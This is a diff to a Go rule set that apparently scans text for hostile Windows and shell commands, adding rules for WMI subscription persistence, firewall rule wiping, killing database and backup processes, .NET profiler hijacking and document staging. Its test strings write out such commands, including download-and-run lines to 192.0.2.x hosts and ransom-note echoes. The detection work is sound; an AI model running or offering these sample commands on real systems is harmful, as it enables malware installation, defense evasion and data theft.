@@ -15,7 +15,24 @@ type textRule struct {
 	keywords []string
 	re       *litRe
 	also     *litRe // must match too, when set
+	anyOS    bool   // also read in texts that are not Windows
 }
+
+// anyOSRules are the text rules read in every text, Windows or not: the
+// effect is in the words whatever program writes them.
+var anyOSRules = map[string]bool{"ransom-note": true}
+
+// anyTextKeywords prefilter the texts that are not Windows for anyOSRules.
+var anyTextKeywords = func() *needles {
+	var kw []string
+	for _, r := range textRules {
+		if anyOSRules[r.ID] {
+			r.anyOS = true
+			kw = append(kw, r.keywords...)
+		}
+	}
+	return newNeedles(kw...)
+}()
 
 func tr(id, class string, sev sdk.Severity, msg string, kw []string, re, also string, must, mustNot []string) *textRule {
 	t := &textRule{rule: rule{ID: id, Class: class, Sev: sev, Msg: msg, Must: must, MustNot: mustNot}, keywords: kw, re: mustLitRe(re)}
@@ -215,9 +232,9 @@ var textRules = []*textRule{
 	tr("ps-download-run", "download and execute", high, "downloads a program and starts it",
 		[]string{"downloadfile", "outfile", "start-bitstransfer", "set-content", "out-file"},
 		`downloadfile\(|-outfile\s|start-bitstransfer|(set-content|out-file)\b[^\n;]*\((iwr|invoke-webrequest|irm|invoke-restmethod)\b`,
-		`start-process|\bsaps\b|invoke-item|\bii\b|&\s*["'(]*\$|\.exe['"]?\s*\)?\s*;?\s*(&|start)|cmd\s*/c|powershell(\.exe)?\s[^\n;|]*-(f|fi|fil|file)\s|;\s*\.\\[\w\\.-]+\.(exe|ps1|bat|cmd|vbs)\b|;\s*&?\s*["']?([a-z]:|\$env:\w+|%\w+%)\\[\w\\.-]+\.(exe|bat|cmd|vbs)\b|rundll32|regsvr32|msiexec|wscript|cscript|mshta`,
+		`start-process|\bsaps\b|invoke-item|\bii\b|&\s*["'(]*\$|\.exe['"]?\s*\)?\s*;?\s*(&|start)|cmd\s*/c|powershell(\.exe)?\s[^\n;|]*-(f|fi|fil|file)\s|;\s*\.\\[\w\\.-]+\.(exe|ps1|bat|cmd|vbs)\b|;\s*&?\s*["']?([a-z]:|\$env:\w+|%\w+%)\\[\w\\.-]+\.(exe|bat|cmd|vbs)\b|rundll32|regsvr32|msiexec(\.exe)?\s[^\n]*/(y|z)\b|wscript|cscript|mshta`,
 		[]string{"(New-Object Net.WebClient).DownloadFile('http://192.0.2.92/a.exe','C:\\Users\\Public\\a.exe'); Start-Process C:\\Users\\Public\\a.exe", "Set-Content -Path $env:TEMP\\u.ps1 -Value (iwr http://192.0.2.93/u.ps1).Content; & $env:TEMP\\u.ps1"},
-		[]string{"Invoke-WebRequest https://example.org/data.csv -OutFile data.csv; Import-Csv data.csv"}),
+		[]string{"Invoke-WebRequest https://example.org/data.csv -OutFile data.csv; Import-Csv data.csv", "Invoke-WebRequest -Uri https://downloads.example.org/cli/v1.2.0/cli.msi -OutFile cli.msi; msiexec /i cli.msi /qn"}),
 	tr("lolbin-download", "download and execute", high, "uses a built-in Windows program to fetch or run remote code",
 		[]string{"certutil", "bitsadmin", "mshta", "regsvr32", "rundll32", "msiexec", "wmic", "cmstp", "odbcconf", "hh.exe", "installutil", "forfiles", "msxsl", "pcalua"},
 		`certutil(\.exe)?\s+[^\n]*-(urlcache|verifyctl)[^\n]*(https?:|ftp:|\\\\|\s-f\s)|certutil(\.exe)?\s+.*-decode|bitsadmin(\.exe)?\s+.*/(transfer|addfile|setnotifycmdline)|mshta(\.exe)?\s+["']?(https?:|javascript:|vbscript:|\\\\)|regsvr32(\.exe)?\s+.*/i:\s*["']?(https?:|\\\\)|regsvr32.*scrobj\.dll|rundll32(\.exe)?\s+.*(javascript:|vbscript:|mshtml\s*,\s*runhtmlapplication|url\.dll\s*,\s*(openurl|fileprotocolhandler)|advpack\.dll\s*,\s*launchinfsection|shell32\.dll\s*,\s*shellexec_rundll)|msiexec(\.exe)?\s+.*/(i|package)\s*["']?https?:|wmic(\.exe)?\s+.*(/format:\s*["']?(https?:|\\\\)|process\s+call\s+create)|cmstp(\.exe)?\s+.*/s|odbcconf(\.exe)?\s+.*regsvr|hh\.exe\s+https?:|installutil(\.exe)?\s+.*/u|pcalua(\.exe)?\s+-a`,
@@ -347,7 +364,7 @@ var textRules = []*textRule{
 		[]string{"encrypted", "bitcoin", "btc", "monero", "decrypt"},
 		`(your (files|data|documents|network) (are|have been|were|is) (encrypted|locked)|pay\s+[\d.]+\s*(btc|bitcoin|xmr|monero)\b|send\s+[\d.]+\s*(btc|bitcoin)\b|to (get|recover) your (files|data) back)`,
 		`(>|set-content|out-file|add-content|-value\b|writealltext)`,
-		[]string{"echo Your files are encrypted. Pay 1 BTC > C:\\Users\\Public\\Desktop\\README_RESTORE.txt & notepad C:\\Users\\Public\\Desktop\\README_RESTORE.txt"},
+		[]string{"echo Your files are encrypted. Pay 1 BTC > C:\\Users\\Public\\Desktop\\README_RESTORE.txt & notepad C:\\Users\\Public\\Desktop\\README_RESTORE.txt", "echo 'All your files have been encrypted' > /home/ann/Desktop/RESTORE.txt"},
 		[]string{"echo Build finished > C:\\build\\status.txt", "grep -r 'your files are encrypted' samples/"}),
 	// An autorun.inf that opens a program, written to a drive (ATT&CK
 	// T1091): removable media that runs code where autorun is on.
@@ -587,6 +604,36 @@ var textRules = []*textRule{
 		``,
 		[]string{"Get-Content C:\\Users\\Public\\o.txt | % { Resolve-DnsName \"$([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($_))).d.example.net\" }"},
 		[]string{"Resolve-DnsName example.org -Type TXT", "nslookup -type=mx example.org"}),
+	tr("wmi-subscription-object", "persistence", high, "creates a WMI event filter or consumer object in root\\subscription (ATT&CK T1546.003)",
+		[]string{"subscription"},
+		`\[wmiclass\]\s*['"][^'"]*root\\+subscription:(__eventfilter|commandlineeventconsumer|activescripteventconsumer|__filtertoconsumerbinding)|root\\+subscription[^\n]*(__eventfilter|commandlineeventconsumer|activescripteventconsumer|__filtertoconsumerbinding)[^\n]*(createinstance|\.put\(|spawninstance_)`,
+		``,
+		[]string{"$f = ([wmiclass]\"\\\\.\\root\\subscription:__EventFilter\").CreateInstance(); $f.Name = 'u'; $f.Put()"},
+		[]string{"Get-WmiObject -Namespace root\\subscription -Class __EventFilter"}),
+	tr("firewall-rules-removed", "defense evasion", high, "removes every Windows firewall rule (ATT&CK T1562.004)",
+		[]string{"remove-netfirewallrule"},
+		`get-netfirewallrule\s*\|\s*remove-netfirewallrule|remove-netfirewallrule\s+-all\b`,
+		``,
+		[]string{"Get-NetFirewallRule | Remove-NetFirewallRule"},
+		[]string{"Remove-NetFirewallRule -DisplayName 'Dev server'", "Get-NetFirewallRule -DisplayName 'Dev*' | Remove-NetFirewallRule"}),
+	tr("ps-kill-data-processes", "impact", high, "kills every process whose name matches databases, mail, office or backup programs (what ransomware does before it encrypts, ATT&CK T1489)",
+		[]string{"-match"},
+		`-match\s+['"]([^'"|]*\|){2,}[^'"]*['"][^\n]*\|\s*(stop-process|spps|kill)\b`,
+		`(sql|oracle|veeam|backup|exchange|outlook|excel|winword|mysql|postgres)[^'"]*\|[^'"]*(sql|oracle|veeam|backup|exchange|outlook|excel|winword|mysql|postgres)`,
+		[]string{"Get-Process | Where-Object { $_.ProcessName -match 'sql|oracle|veeam|backup' } | Stop-Process -Force"},
+		[]string{"Get-Process | Where-Object { $_.ProcessName -match 'node|npm|vite' } | Stop-Process"}),
+	tr("dotnet-profiler-env-api", "persistence", high, "sets a .NET profiler DLL through the environment API (every .NET program loads it, ATT&CK T1574.012)",
+		[]string{"setenvironmentvariable"},
+		`setenvironmentvariable\(\s*['"](cor_profiler|cor_enable_profiling|cor_profiler_path|coreclr_profiler\w*|coreclr_enable_profiling)['"]`,
+		``,
+		[]string{"[Environment]::SetEnvironmentVariable('COR_PROFILER_PATH','C:\\Users\\Public\\p.dll','Machine')"},
+		[]string{"[Environment]::SetEnvironmentVariable('PATH', $env:PATH + ';C:\\Tools', 'User')"}),
+	tr("cmd-document-sweep", "collection", high, "copies every document of a type from a whole drive or profile into one folder (staging, ATT&CK T1119, T1074.001)",
+		[]string{"for /r", "for  /r"},
+		`\bfor\s+/r\s+"?([a-z]:\\?|%(userprofile|homedrive|systemdrive)%\\?|[a-z]:\\users\\?)"?\s+%+\w+\s+in\s+\(\s*"?\*\.(docx?|xlsx?|pdf|pptx?|kdbx|pst|ost|csv|rtf|odt)\b[^)]*\)\s*do\s+@?(copy|xcopy|move|robocopy)\b`,
+		``,
+		[]string{"for /R C:\\ %f in (*.docx) do copy \"%f\" %TEMP%\\s", "for /r %USERPROFILE% %%a in (*.pdf *.xlsx) do xcopy \"%%a\" C:\\ProgramData\\s\\ /y"},
+		[]string{"for /r .\\src %f in (*.cs) do copy %f .\\out", "for /R C:\\Projects\\docs %f in (*.md) do type %f"}),
 }
 
 // encodedRule flags PowerShell -EncodedCommand: its decoded script is judged
